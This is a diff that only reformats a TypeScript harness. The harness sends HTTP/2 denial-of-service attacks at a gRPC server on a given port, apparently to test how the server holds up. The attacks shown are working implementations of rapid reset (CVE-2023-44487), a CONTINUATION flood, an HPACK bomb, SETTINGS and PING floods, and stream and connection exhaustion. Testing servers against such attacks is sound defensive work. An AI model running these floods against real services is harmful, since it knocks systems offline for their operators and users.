@@ -165,7 +165,8 @@ function connect(port: number, ourSettings: Array<[number, number]> = []): Conn 
       const payload = buf.subarray(9, 9 + len);
       buf = buf.subarray(9 + len);
       if (type === T.SETTINGS && !(flags & F.ACK)) {
-        for (let o = 0; o + 6 <= payload.length; o += 6) if (payload.readUInt16BE(o) === S.MAX_CONCURRENT_STREAMS) conn.maxConcurrentStreams = payload.readUInt32BE(o + 2);
+        for (let o = 0; o + 6 <= payload.length; o += 6)
+          if (payload.readUInt16BE(o) === S.MAX_CONCURRENT_STREAMS) conn.maxConcurrentStreams = payload.readUInt32BE(o + 2);
         socket.write(frame(T.SETTINGS, F.ACK, 0));
         readyResolve();
       } else if (type === T.GOAWAY) bump(stats.goaway, String(payload.readUInt32BE(4)));
@@ -198,37 +199,48 @@ type Attack = (port: number, deadline: number) => Promise<void>;
 const attacks: Record<string, Attack> = {
   /** CVE-2023-44487: HEADERS then RST_STREAM(CANCEL), stream after stream, never waiting for an answer. */
   'rapid-reset': (port, deadline) =>
-    persist(deadline, 50, () => connect(port), async (c) => {
-      const headers = grpcHeaders(port);
-      for (let id = 1; id < 2 ** 31 - 2 && !c.closed && Date.now() < deadline; ) {
-        const batch: Buffer[] = [];
-        for (let i = 0; i < 200; i++, id += 2) batch.push(frame(T.HEADERS, F.END_HEADERS, id, headers), frame(T.RST_STREAM, 0, id, Buffer.from([0, 0, 0, CANCEL])));
-        stats.streamsOpened += 200;
-        await c.send(Buffer.concat(batch), 400);
-        await yieldNow();
-      }
-    }),
+    persist(
+      deadline,
+      50,
+      () => connect(port),
+      async (c) => {
+        const headers = grpcHeaders(port);
+        for (let id = 1; id < 2 ** 31 - 2 && !c.closed && Date.now() < deadline; ) {
+          const batch: Buffer[] = [];
+          for (let i = 0; i < 200; i++, id += 2)
+            batch.push(frame(T.HEADERS, F.END_HEADERS, id, headers), frame(T.RST_STREAM, 0, id, Buffer.from([0, 0, 0, CANCEL])));
+          stats.streamsOpened += 200;
+          await c.send(Buffer.concat(batch), 400);
+          await yieldNow();
+        }
+      },
+    ),
 
   /** CONTINUATION flood (CVE-2024-27983 and kin): one header block that never ends, 16 KiB CONTINUATION frames of fresh headers. */
   'continuation-flood': (port, deadline) =>
-    persist(deadline, 50, () => connect(port), async (c) => {
-      let id = 1;
-      while (!c.closed && Date.now() < deadline) {
-        await c.send(frame(T.HEADERS, 0, id, grpcHeaders(port)));
-        stats.streamsOpened++;
-        for (let n = 0; n < 64 * 1024 && !c.closed && Date.now() < deadline; ) {
-          const batch: Buffer[] = [];
-          for (let i = 0; i < 16; i++, n++) {
-            const parts: Buffer[] = [];
-            for (let k = 0; k < 15; k++) parts.push(literal(`x-flood-${n}-${k}`, 'v'.repeat(1000)));
-            batch.push(frame(T.CONTINUATION, 0, id, Buffer.concat(parts)));
+    persist(
+      deadline,
+      50,
+      () => connect(port),
+      async (c) => {
+        let id = 1;
+        while (!c.closed && Date.now() < deadline) {
+          await c.send(frame(T.HEADERS, 0, id, grpcHeaders(port)));
+          stats.streamsOpened++;
+          for (let n = 0; n < 64 * 1024 && !c.closed && Date.now() < deadline; ) {
+            const batch: Buffer[] = [];
+            for (let i = 0; i < 16; i++, n++) {
+              const parts: Buffer[] = [];
+              for (let k = 0; k < 15; k++) parts.push(literal(`x-flood-${n}-${k}`, 'v'.repeat(1000)));
+              batch.push(frame(T.CONTINUATION, 0, id, Buffer.concat(parts)));
+            }
+            await c.send(Buffer.concat(batch), 16);
+            await yieldNow();
           }
-          await c.send(Buffer.concat(batch), 16);
-          await yieldNow();
+          id += 2;
         }
-        id += 2;
-      }
-    }),
+      },
+    ),
 
   /**
    * HPACK bomb: SETTINGS_HEADER_TABLE_SIZE at its maximum, then header blocks
@@ -236,39 +248,62 @@ const attacks: Record<string, Attack> = {
    * times: 8 KiB on the wire, 16 MB of headers decoded, per stream.
    */
   'hpack-bomb': (port, deadline) =>
-    persist(deadline, 50, () => connect(port, [[S.HEADER_TABLE_SIZE, 0xffffffff], [S.MAX_HEADER_LIST_SIZE, 0xffffffff]]), async (c) => {
-      const block = Buffer.concat([grpcHeaders(port), indexedLiteral('x-bomb', 'b'.repeat(4000)), Buffer.alloc(4000, 0x80 | 62)]);
-      for (let id = 1; !c.closed && Date.now() < deadline; ) {
-        const batch: Buffer[] = [];
-        for (let i = 0; i < 8; i++, id += 2) batch.push(frame(T.HEADERS, F.END_HEADERS, id, block), frame(T.DATA, F.END_STREAM, id, EMPTY_CHECK));
-        stats.streamsOpened += 8;
-        await c.send(Buffer.concat(batch), 16);
-        await yieldNow();
-      }
-    }),
+    persist(
+      deadline,
+      50,
+      () =>
+        connect(port, [
+          [S.HEADER_TABLE_SIZE, 0xffffffff],
+          [S.MAX_HEADER_LIST_SIZE, 0xffffffff],
+        ]),
+      async (c) => {
+        const block = Buffer.concat([grpcHeaders(port), indexedLiteral('x-bomb', 'b'.repeat(4000)), Buffer.alloc(4000, 0x80 | 62)]);
+        for (let id = 1; !c.closed && Date.now() < deadline; ) {
+          const batch: Buffer[] = [];
+          for (let i = 0; i < 8; i++, id += 2) batch.push(frame(T.HEADERS, F.END_HEADERS, id, block), frame(T.DATA, F.END_STREAM, id, EMPTY_CHECK));
+          stats.streamsOpened += 8;
+          await c.send(Buffer.concat(batch), 16);
+          await yieldNow();
+        }
+      },
+    ),
 
   /** SETTINGS flood: SETTINGS frames as fast as they go while never reading the ACKs the server owes. */
   'settings-flood': (port, deadline) =>
-    persist(deadline, 50, () => connect(port), async (c) => {
-      c.stopReading();
-      const one = settings([[S.INITIAL_WINDOW_SIZE, 65535], [S.MAX_FRAME_SIZE, 16384], [S.ENABLE_PUSH, 0]]);
-      const batch = Buffer.concat(Array.from({ length: 1000 }, () => one));
-      while (!c.closed && Date.now() < deadline) {
-        await c.send(batch, 1000);
-        await yieldNow();
-      }
-    }),
+    persist(
+      deadline,
+      50,
+      () => connect(port),
+      async (c) => {
+        c.stopReading();
+        const one = settings([
+          [S.INITIAL_WINDOW_SIZE, 65535],
+          [S.MAX_FRAME_SIZE, 16384],
+          [S.ENABLE_PUSH, 0],
+        ]);
+        const batch = Buffer.concat(Array.from({ length: 1000 }, () => one));
+        while (!c.closed && Date.now() < deadline) {
+          await c.send(batch, 1000);
+          await yieldNow();
+        }
+      },
+    ),
 
   /** PING flood: PINGs as fast as they go while never reading the PING ACKs. */
   'ping-flood': (port, deadline) =>
-    persist(deadline, 50, () => connect(port), async (c) => {
-      c.stopReading();
-      const batch = Buffer.concat(Array.from({ length: 1000 }, (_, i) => frame(T.PING, 0, 0, Buffer.alloc(8, i & 0xff))));
-      while (!c.closed && Date.now() < deadline) {
-        await c.send(batch, 1000);
-        await yieldNow();
-      }
-    }),
+    persist(
+      deadline,
+      50,
+      () => connect(port),
+      async (c) => {
+        c.stopReading();
+        const batch = Buffer.concat(Array.from({ length: 1000 }, (_, i) => frame(T.PING, 0, 0, Buffer.alloc(8, i & 0xff))));
+        while (!c.closed && Date.now() < deadline) {
+          await c.send(batch, 1000);
+          await yieldNow();
+        }
+      },
+    ),
 
   /**
    * Zero window: SETTINGS_INITIAL_WINDOW_SIZE=0 and never a WINDOW_UPDATE, so
@@ -298,32 +333,42 @@ const attacks: Record<string, Attack> = {
 
   /** A reader that never reads: complete Checks pipelined on a socket whose answers are never read. */
   'never-reads': (port, deadline) =>
-    persist(deadline, 50, () => connect(port), async (c) => {
-      c.stopReading();
-      const headers = grpcHeaders(port);
-      for (let id = 1; !c.closed && Date.now() < deadline && id < 2 ** 31 - 400; ) {
-        const batch: Buffer[] = [];
-        for (let k = 0; k < 100; k++, id += 2) batch.push(frame(T.HEADERS, F.END_HEADERS, id, headers), frame(T.DATA, F.END_STREAM, id, EMPTY_CHECK));
-        stats.streamsOpened += 100;
-        await c.send(Buffer.concat(batch), 200);
-        await sleep(1);
-      }
-    }),
+    persist(
+      deadline,
+      50,
+      () => connect(port),
+      async (c) => {
+        c.stopReading();
+        const headers = grpcHeaders(port);
+        for (let id = 1; !c.closed && Date.now() < deadline && id < 2 ** 31 - 400; ) {
+          const batch: Buffer[] = [];
+          for (let k = 0; k < 100; k++, id += 2) batch.push(frame(T.HEADERS, F.END_HEADERS, id, headers), frame(T.DATA, F.END_STREAM, id, EMPTY_CHECK));
+          stats.streamsOpened += 100;
+          await c.send(Buffer.concat(batch), 200);
+          await sleep(1);
+        }
+      },
+    ),
 
   /** Many streams on one connection, far beyond any sensible concurrency: each a request that never sends its message. */
   'many-streams': (port, deadline) =>
-    persist(deadline, 20, () => connect(port), async (c) => {
-      const headers = grpcHeaders(port);
-      for (let id = 1; !c.closed && Date.now() < deadline && stats.streamsOpened < 200_000; ) {
-        const batch: Buffer[] = [];
-        for (let k = 0; k < 500; k++, id += 2) batch.push(frame(T.HEADERS, F.END_HEADERS, id, headers));
-        stats.streamsOpened += 500;
-        await c.send(Buffer.concat(batch), 500);
-        await yieldNow();
-      }
-      // Hold the connection (and whatever streams the server kept) for the rest of the time.
-      while (!c.closed && Date.now() < deadline) await sleep(50);
-    }),
+    persist(
+      deadline,
+      20,
+      () => connect(port),
+      async (c) => {
+        const headers = grpcHeaders(port);
+        for (let id = 1; !c.closed && Date.now() < deadline && stats.streamsOpened < 200_000; ) {
+          const batch: Buffer[] = [];
+          for (let k = 0; k < 500; k++, id += 2) batch.push(frame(T.HEADERS, F.END_HEADERS, id, headers));
+          stats.streamsOpened += 500;
+          await c.send(Buffer.concat(batch), 500);
+          await yieldNow();
+        }
+        // Hold the connection (and whatever streams the server kept) for the rest of the time.
+        while (!c.closed && Date.now() < deadline) await sleep(50);
+      },
+    ),
 
   /** 500 connections held open at once, each with a request stream that never sends its message. */
   'many-connections': async (port, deadline) => {
